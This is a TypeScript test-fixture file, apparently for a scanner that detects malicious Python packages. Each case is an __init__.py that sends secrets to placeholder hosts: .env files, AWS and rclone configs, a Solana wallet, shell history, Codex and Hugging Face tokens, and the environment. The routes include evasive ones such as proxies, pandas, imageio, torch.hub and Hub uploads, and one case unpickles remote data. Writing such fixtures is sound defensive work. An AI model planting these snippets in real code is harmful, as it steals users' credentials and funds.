import type { Case } from './pack-of.ts'

const pack = (rule: string, name: string, init: string, more: Record<string, string> = {}): Case => ({
  name: `secrets: ${name}`,
  rule,
  files: { '__init__.py': `${init}\n`, ...more },
})

/** Secrets that leave by a less common way. */
export const moreSecrets: Case[] = [
  pack(
    'credentials-sent',
    'settings beside the pack',
    `import os, requests
path = os.path.join(os.path.dirname(__file__), "..", "..", ".env")
requests.post("https://x.example", data=open(path).read())`,
  ),
  pack(
    'credentials-sent',
    'settings copied into the pack',
    `import os, requests, shutil
mine = os.path.join(os.path.dirname(__file__), ".env")
shutil.copy(os.path.expanduser("~/.env"), mine)
requests.post("https://x.example", data=open(mine).read())`,
  ),
  pack(
    'credentials-sent',
    'the environment as a proxy',
    `import os, requests
requests.get("https://y.example", proxies={"https": "http://" + str(dict(os.environ)).encode().hex() + "@x.example"})`,
  ),
  pack(
    'credentials-sent',
    'the configuration of AWS',
    `import os, requests
requests.post("https://x.example", data=open(os.path.expanduser("~/.aws/config")).read())`,
  ),
  pack(
    'credentials-sent',
    'the configuration of rclone',
    `import os, requests
requests.post("https://x.example", data=open(os.path.expanduser("~/.config/rclone/rclone.conf")).read())`,
  ),
  pack(
    'credentials-sent',
    'a wallet of Solana',
    `import os, requests
requests.post("https://x.example", data=open(os.path.expanduser("~/.config/solana/id.json")).read())`,
  ),
  pack(
    'credentials-sent',
    'the history of a shell',
    `import os, requests
requests.post("https://x.example", data=open(os.path.expanduser("~/.bash_history")).read())`,
  ),
  pack(
    'credentials-sent',
    'the login of Codex',
    `import os, requests
requests.post("https://x.example", data=open(os.path.expanduser("~/.codex/auth.json")).read())`,
  ),
  pack(
    'credentials-sent',
    'the token of Hugging Face',
    `import os, requests
requests.post("https://x.example", data=open(os.path.expanduser("~/.cache/huggingface/token")).read())`,
  ),
  pack(
    'credentials-sent',
    'the token of Hugging Face by its library',
    `import requests, huggingface_hub
requests.get("https://x.example/huggingface.co", headers={"A": huggingface_hub.get_token()})`,
  ),
  pack(
    'credentials-sent',
    'posix.environ',
    `import posix, requests
requests.post("https://x.example", data=posix.environ)`,
  ),
  pack(
    'credentials-sent',
    'the environment by a pattern',
    `import os, requests
match os.environ:
    case e:
        requests.post("https://x.example", json=dict(e))`,
  ),
  pack(
    'credentials-sent',
    'the environment uploaded to the hub',
    `import os
from huggingface_hub import HfApi
HfApi().upload_file(path_or_fileobj=str(dict(os.environ)).encode(), path_in_repo="a", repo_id="x/y")`,
  ),
  pack(
    'credentials-sent',
    'the environment by niquests',
    `import os, niquests
niquests.post("https://x.example", json=dict(os.environ))`,
  ),
  pack(
    'credentials-sent',
    'the environment in an address for imageio',
    `import os, imageio
imageio.imread("https://x.example/?" + str(os.environ))`,
  ),
  pack(
    'credentials-sent',
    'the environment in an address for pandas',
    `import os, pandas
pandas.read_csv("https://x.example/?" + str(os.environ))`,
  ),
  pack(
    'credentials-sent',
    'the environment in an address for torch.hub',
    `import os, torch.hub
torch.hub.download_url_to_file("https://x.example/?" + str(os.environ))`,
  ),
  pack(
    'code-from-data',
    'pickles in an array',
    `import io, requests
import numpy as np
np.load(io.BytesIO(requests.get("https://x.example").content), allow_pickle=True)`,
  ),
]
